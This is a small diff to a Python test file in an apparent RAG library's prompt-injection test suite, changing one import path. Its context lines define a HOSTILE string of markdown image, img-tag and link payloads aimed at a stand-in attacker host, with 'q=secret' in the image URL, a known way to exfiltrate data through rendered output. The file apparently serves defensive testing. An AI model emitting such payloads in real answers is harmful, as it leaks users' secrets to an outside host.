@@ -12,7 +12,7 @@ from ragkit import Settings
 from ragkit.answers.prompt import RULES
 from tests.answers.server import chat_serving
 
-from .documents import DOCUMENTS, EVIL
+from tests.injection.documents import DOCUMENTS, EVIL
 
 QUESTION = "What does the note on evil example say?"
 HOSTILE = f"![x](https://{EVIL}/p.png?q=secret) <img src=//{EVIL}> [go](https://{EVIL}) [77] "
